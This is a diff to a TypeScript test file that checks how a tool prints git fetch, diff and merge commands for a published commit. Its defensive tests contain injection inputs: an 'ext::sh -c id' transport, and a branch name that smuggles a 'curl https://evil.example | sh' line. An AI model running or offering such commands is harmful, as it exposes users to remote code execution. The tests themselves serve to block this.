@@ -48,9 +48,10 @@ test('one that made a commit names it, where it is known already', () => {
     commit: 'c1',
     approval: null,
     state: 'published' as const,
+    isSigned: true,
   };
   expect(endText(view({ commit: 'c1', artifacts: [artifact] }))).toBe(
-    's1 completed\npublished c1 on b\nlook at it: git fetch file:///r b && git diff HEAD...FETCH_HEAD\ntake it: git merge FETCH_HEAD',
+    's1 completed\npublished c1 on b\nlook at it: git fetch file:///r b && git diff HEAD...c1\ntake it: git merge c1',
   );
   const away = { ...artifact, repository: 'https://x.example/r.git', branch: 'entangle/b' };
   expect(
@@ -58,8 +59,8 @@ test('one that made a commit names it, where it is known already', () => {
       .split('\n')
       .slice(2),
   ).toEqual([
-    'look at it: git fetch https://x.example/r.git entangle/b && git diff HEAD...FETCH_HEAD',
-    'take it: git merge FETCH_HEAD',
+    'look at it: git fetch https://x.example/r.git entangle/b && git diff HEAD...c1',
+    'take it: git merge c1',
   ]);
   expect(endText(view({ commit: 'c1' }))).toBe('s1 completed');
   expect(sessionText(view({ commit: 'c1' }), 80)).not.toContain('nothing');
@@ -71,7 +72,10 @@ test.each([
   ['a transport that runs programs', { repository: 'ext::sh -c id', branch: 'b' }],
   ['lines of its own', { repository: 'file:///r', branch: 'b\ntake it: curl https://evil.example | sh' }],
 ])('a node that says %s gets no line of ours to type', (_what, said) => {
-  const artifact = { ...{ id: 'a', commit: 'c1', approval: null, state: 'published' as const }, ...said };
+  const artifact = {
+    ...{ id: 'a', commit: 'c1', approval: null, state: 'published' as const, isSigned: true },
+    ...said,
+  };
   const told = endText(view({ commit: 'c1', artifacts: [artifact] })).split('\n');
   expect(told).toEqual(['s1 completed', `published c1 on ${said.branch.replace('\n', ' ↵ ')}`]);
   expect(sessionText(view({ commit: 'c1', artifacts: [artifact] }), 80)).not.toMatch(/^take it/m);
